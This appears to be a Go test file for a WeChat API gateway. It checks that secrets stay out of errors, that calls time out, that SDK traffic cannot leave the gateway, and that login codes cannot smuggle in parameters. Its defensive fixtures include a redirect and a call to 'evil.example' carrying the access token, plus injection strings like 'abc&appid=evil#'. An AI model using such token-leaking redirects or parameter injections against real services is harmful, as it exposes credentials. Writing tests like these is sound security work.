package wechat

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/silenceper/wechat/v2/cache"
	miniconfig "github.com/silenceper/wechat/v2/miniprogram/config"
	mini "github.com/silenceper/wechat/v2/miniprogram/context"
	"github.com/silenceper/wechat/v2/miniprogram/qrcode"
	sdk "github.com/silenceper/wechat/v2/officialaccount/context"
	"github.com/silenceper/wechat/v2/util"
	"github.com/stretchr/testify/require"

	"shuangyong/models/fault"
)

// api answers stable_token and hands every other call to handle, with the token that it came with.
func api(t *testing.T, handle func(w http.ResponseWriter, r *http.Request)) string {
	return apiServer(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/cgi-bin/stable_token" {
			_, _ = io.WriteString(w, `{"access_token":"80_realtokenrealtokenrealtoken","expires_in":7200}`)
			return
		}
		_, _ = io.Copy(io.Discard, r.Body) // a server notices that its client left only when it has read the body
		handle(w, r)
	})
}

const realToken = "80_realtokenrealtokenrealtoken"

// Trap 4: the SDK's errors quote whole addresses, with the token or the secret in them.
func TestTrap4ErrorsHoldNoTokenSecretOrAddress(t *testing.T) {
	hostile := `{"errcode":40003,"errmsg":"invalid openid ` + alice + ` token ` + realToken + ` secret ` + testSecret + ` phone 13812345678 id 11010519491231002X http://10.0.0.1/?secret=abc rid: 6f0a-1"}`
	for name, handle := range map[string]func(w http.ResponseWriter, r *http.Request){
		"status":  func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusBadGateway) },
		"hang up": func(http.ResponseWriter, *http.Request) { panic(http.ErrAbortHandler) },
		"no json": func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "<html>") },
		"hostile": func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, hostile) },
		"away": func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "http://evil.example/?"+r.URL.RawQuery, http.StatusFound)
		},
	} {
		t.Run(name, func(t *testing.T) {
			base := api(t, handle)
			g := newRig(t, func(o *Options) { o.APIBase = base }).gateway
			_, menuErr := g.CurrentMenu(t.Context())
			_, loginErr := g.Login(t.Context(), "code")
			for _, err := range []error{g.SendText(t.Context(), alice, "私事"), g.PushMenu(t.Context(), DefaultMenu()), menuErr, loginErr} {
				require.Error(t, err)
				requireClean(t, err.Error(), base)
			}
		})
	}
}

func TestTrap4TheSDKNeverHoldsTheTokenOrTheSecret(t *testing.T) {
	got := make(chan url.Values, 1)
	base := api(t, func(_ http.ResponseWriter, r *http.Request) {
		got <- r.URL.Query()
		panic(http.ErrAbortHandler)
	})
	g := newRig(t, func(o *Options) { o.APIBase = base }).gateway
	var fromSDK error
	err := g.do(t.Context(), "any", func(c *sdk.Context) error {
		token, _ := c.GetAccessToken()
		_, fromSDK = util.HTTPGet("https://api.weixin.qq.com/any?access_token=" + token)
		return fromSDK
	})
	require.Equal(t, []string{realToken}, (<-got)["access_token"], "the wire does")
	require.ErrorContains(t, fromSDK, "access_token=", "the SDK quotes the address")
	require.NotContains(t, fromSDK.Error(), realToken)
	requireClean(t, err.Error(), base)
	require.NotContains(t, err.Error(), "ticket")
}

func requireClean(t *testing.T, text, base string) {
	t.Helper()
	host, _ := url.Parse(base)
	for _, private := range []string{realToken, testSecret, alice, "access_token=", "13812345678", "110105194912310", "私事", "10.0.0.1", host.Host, "evil"} {
		require.NotContains(t, text, private)
	}
}

func TestTrap4RedactKeepsWhatHelps(t *testing.T) {
	require.Equal(t, "invalid ip •••, not in whitelist", redact(errors.New("invalid ip 112233445566, not in whitelist")))
	require.Equal(t, "js_code=••• is used", redact(errors.New("js_code=abc is used")))
	require.Empty(t, redact(nil))
	require.LessOrEqual(t, len(redact(errors.New(strings.Repeat("长 ", 300)))), 200)
}

// Trap 5: the SDK panics on several inputs, also on a cache's []byte, and its Memory cache is not safe for concurrent use.
func TestTrap5APanicOfTheSDKIsAnError(t *testing.T) {
	g := newRig(t).gateway
	err := g.do(t.Context(), "any", func(*sdk.Context) error { panic("with " + testSecret) })
	require.Equal(t, fault.Unavailable, fault.CodeOf(err))
	require.NotContains(t, err.Error(), testSecret)
	_, busy := sdkCalls.find(url.Values{})
	require.Empty(t, busy)
}

func TestTrap5TheCacheGivesTextOrNothing(t *testing.T) {
	_, client := newRedis(t)
	c := redisCache{redis: client}
	require.NoError(t, c.Set("k", []byte("bytes"), time.Minute))
	require.IsType(t, "", c.Get("k"))
	require.Equal(t, "bytes", c.Get("k"))
	require.True(t, c.IsExist("k"))
	require.NoError(t, c.Delete("k"))
	require.Nil(t, c.Get("k"))
	require.False(t, c.IsExist("k"))

	none := redisCache{}
	require.NoError(t, none.Set("k", "v", time.Minute))
	require.Nil(t, none.Get("k"))
	require.NoError(t, none.Delete("k"))
}

func TestTrap5AndTrap6NobodyUsesTheSDKsCaches(t *testing.T) {
	var _ cache.ContextCache = redisCache{}
	for _, pattern := range []string{"*.go", "*/*.go"} {
		files, err := filepath.Glob(pattern)
		require.NoError(t, err)
		for _, f := range files {
			text, err := os.ReadFile(f)
			require.NoError(t, err)
			for _, theirs := range []string{"cache.New" + "Memory", "cache.New" + "Redis", "go-redis" + "/redis/v8"} {
				require.NotContains(t, string(text), theirs, f)
			}
		}
	}
}

// Trap 6: a cache on go-redis v9 whose trouble is an empty cache.
func TestTrap6ARedisThatIsDownIsAnEmptyCache(t *testing.T) {
	m, client := newRedis(t)
	c := redisCache{redis: client}
	require.NoError(t, c.Set("k", "v", time.Minute))
	m.Close()
	require.Nil(t, c.Get("k"))
	require.False(t, c.IsExist("k"))
	require.Error(t, c.Set("k", "v", time.Minute))
}

// Trap 7: the SDK's client has no time-out, and qrcode goes to Tencent whatever URI modifier is set.
func TestTrap7AHangingAPIEndsInTime(t *testing.T) {
	release := make(chan struct{})
	base := api(t, func(_ http.ResponseWriter, r *http.Request) {
		select {
		case <-release:
		case <-r.Context().Done():
		}
	})
	t.Cleanup(func() { close(release) })
	g := newRig(t, func(o *Options) { o.APIBase, o.HTTPTimeout = base, 100*time.Millisecond }).gateway
	err := within(t, 3*time.Second, func() error { return g.PushMenu(context.Background(), DefaultMenu()) })
	require.Equal(t, fault.Unavailable, fault.CodeOf(err))
	require.ErrorIs(t, err, context.DeadlineExceeded)
	require.Positive(t, util.DefaultHTTPClient.Timeout)
}

func TestTrap7AnAnswerThatTricklesEndsInTime(t *testing.T) {
	base := api(t, func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, "{")
		w.(http.Flusher).Flush()
		<-r.Context().Done()
	})
	g := newRig(t, func(o *Options) { o.APIBase, o.HTTPTimeout = base, 100*time.Millisecond }).gateway
	err := within(t, 3*time.Second, func() error { return g.SendText(context.Background(), alice, "您好") })
	require.ErrorIs(t, err, context.DeadlineExceeded)
}

func TestTrap7EveryCallGoesToTheAPIBase(t *testing.T) {
	var got []string
	base := api(t, func(w http.ResponseWriter, r *http.Request) {
		got = append(got, r.Host+r.URL.Path+" "+r.URL.Query().Get("access_token"))
		w.Header().Set("Content-Type", "image/jpeg")
		_, _ = io.WriteString(w, `{"errcode":0}`)
	})
	g := newRig(t, func(o *Options) { o.APIBase = base + "/proxy" }).gateway
	base2 := apiServer(t, func(w http.ResponseWriter, r *http.Request) { // the token is asked for below the base's path too
		require.Equal(t, "/proxy/cgi-bin/stable_token", r.URL.Path)
		_, _ = io.WriteString(w, `{"access_token":"`+realToken+`","expires_in":7200}`)
	})
	require.NoError(t, newRig(t, func(o *Options) { o.APIBase = base2 + "/proxy" }).gateway.Check(t.Context()))

	g.token.cur = heldToken{Value: realToken, Ends: g.o.Clock.Now().Unix() + 7200}
	require.NoError(t, g.do(t.Context(), "getwxacodeunlimit", func(c *sdk.Context) error {
		_, err := qrcode.NewQRCode(&mini.Context{Config: &miniconfig.Config{}, AccessTokenContextHandle: c.AccessTokenHandle.(ticketHandle)}).
			GetWXACodeUnlimit(qrcode.QRCoder{Scene: "a"})
		return err
	}))
	require.NoError(t, g.SendText(t.Context(), alice, "您好"))
	host := strings.TrimPrefix(base, "http://")
	require.Equal(t, []string{host + "/proxy/wxa/getwxacodeunlimit " + realToken, host + "/proxy/cgi-bin/message/custom/send " + realToken}, got)
}

func TestTrap7TheSDKGoesNowhereByItself(t *testing.T) {
	for _, address := range []string{"https://api.weixin.qq.com/x", "https://api.weixin.qq.com/x?access_token=" + realToken, "http://127.0.0.1:1/x"} {
		_, err := util.HTTPGet(address)
		require.ErrorContains(t, err, "outside a gateway")
	}
	g := newRig(t).gateway
	require.Error(t, g.do(t.Context(), "any", func(c *sdk.Context) error {
		ticket, _ := c.GetAccessToken()
		_, err := util.HTTPGet("https://evil.example/?access_token=" + ticket)
		require.ErrorContains(t, err, "outside a gateway")
		return err
	}))
}

// Trap 8: js_code goes into the address unescaped.
func TestTrap8ALoginCodeCannotBringParameters(t *testing.T) {
	var calls atomic.Int32
	var got url.Values
	base := api(t, func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		got = r.URL.Query()
		_, _ = io.WriteString(w, `{"openid":"oMini","session_key":"sk==","unionid":"u"}`)
	})
	g := newRig(t, func(o *Options) { o.APIBase = base }).gateway
	for _, code := range []string{"abc&appid=evil#", "a b", "", "a%26b", "a\nb", "密码", strings.Repeat("a", 129)} {
		_, err := g.Login(t.Context(), code)
		require.Equal(t, fault.Invalid, fault.CodeOf(err), code)
	}
	require.Zero(t, calls.Load())

	login, err := g.Login(t.Context(), "0a3xYZ_-9")
	require.NoError(t, err)
	require.Equal(t, Login{OpenID: "oMini", UnionID: "u", SessionKey: "sk=="}, login)
	require.Equal(t, url.Values{"appid": {testApp}, "secret": {testSecret}, "js_code": {"0a3xYZ_-9"}, "grant_type": {"authorization_code"}}, got)

	// and whatever a later call forgets to check, a parameter that comes twice goes nowhere
	err = g.do(t.Context(), "any", func(c *sdk.Context) error {
		ticket, _ := c.GetAccessToken()
		_, err := util.HTTPGet("https://api.weixin.qq.com/x?appid=" + testApp + "&access_token=" + ticket + "&code=abc&appid=evil#")
		return err
	})
	require.ErrorContains(t, err, "parameter twice")
	require.EqualValues(t, 1, calls.Load())
}

func TestLoginRefusalsAreTyped(t *testing.T) {
	for code, class := range map[int]Class{40029: ClassInvalid, 45011: ClassQuota, 40226: ClassRisky, -1: ClassTemporary} {
		base := api(t, func(w http.ResponseWriter, _ *http.Request) {
			_, _ = fmt.Fprintf(w, `{"errcode":%d,"errmsg":"no"}`, code)
		})
		_, err := newRig(t, func(o *Options) { o.APIBase = base }).gateway.Login(t.Context(), "code")
		require.Equal(t, class, Classify(err))
	}
}

// An answer without a refusal that names nobody, or holds no key, is no login.
func TestALoginNamesSomebody(t *testing.T) {
	for _, answer := range []string{`{}`, `{"openid":"oMini"}`, `{"session_key":"sk=="}`, `{"openid":"","session_key":"sk=="}`, `{"openid":"o x","session_key":"sk=="}`} {
		base := api(t, func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, answer) })
		login, err := newRig(t, func(o *Options) { o.APIBase = base }).gateway.Login(t.Context(), "code")
		require.Equal(t, fault.Unavailable, fault.CodeOf(err), answer)
		require.Empty(t, login)
	}
}

// Trap 9: the SDK reads whatever comes.
func TestTrap9AnEndlessAnswerIsCutOff(t *testing.T) {
	var written atomic.Int64
	base := api(t, func(w http.ResponseWriter, _ *http.Request) {
		chunk := make([]byte, 64<<10)
		for range 1024 { // 64 MiB if one lets it
			n, err := w.Write(chunk)
			written.Add(int64(n))
			if err != nil {
				return
			}
		}
	})
	g := newRig(t, func(o *Options) { o.APIBase = base }).gateway
	err := g.SendText(t.Context(), alice, "您好")
	require.ErrorContains(t, err, "too large")
	require.Less(t, written.Load(), int64(32<<20))
}

// Trap 11: hardly a call of the SDK takes a context.
func TestTrap11TheCallersDeadlineHolds(t *testing.T) {
	arrived := make(chan struct{}, 1)
	base := api(t, func(_ http.ResponseWriter, r *http.Request) {
		arrived <- struct{}{}
		<-r.Context().Done()
	})
	g := newRig(t, func(o *Options) { o.APIBase, o.HTTPTimeout = base, time.Minute }).gateway
	for name, call := range map[string]func(ctx context.Context) error{
		"send": func(ctx context.Context) error { return g.SendText(ctx, alice, "您好") },
		"menu": func(ctx context.Context) error { return g.PushMenu(ctx, DefaultMenu()) },
		"get menu": func(ctx context.Context) error {
			_, err := g.CurrentMenu(ctx)
			return err
		},
		"login": func(ctx context.Context) error {
			_, err := g.Login(ctx, "code")
			return err
		},
	} {
		ctx, cancel := context.WithCancel(t.Context())
		go func() {
			<-arrived
			cancel()
		}()
		err := within(t, 5*time.Second, func() error { return call(ctx) })
		require.ErrorIs(t, err, context.Canceled, name)
		require.Equal(t, fault.Unavailable, fault.CodeOf(err), name)
	}
}

// within fails the test when fn takes longer.
func within(t *testing.T, limit time.Duration, fn func() error) error {
	t.Helper()
	done := make(chan error, 1)
	go func() { done <- fn() }()
	select {
	case err := <-done:
		return err
	case <-time.After(limit):
		t.Fatal("took longer than ", limit)
		return nil
	}
}
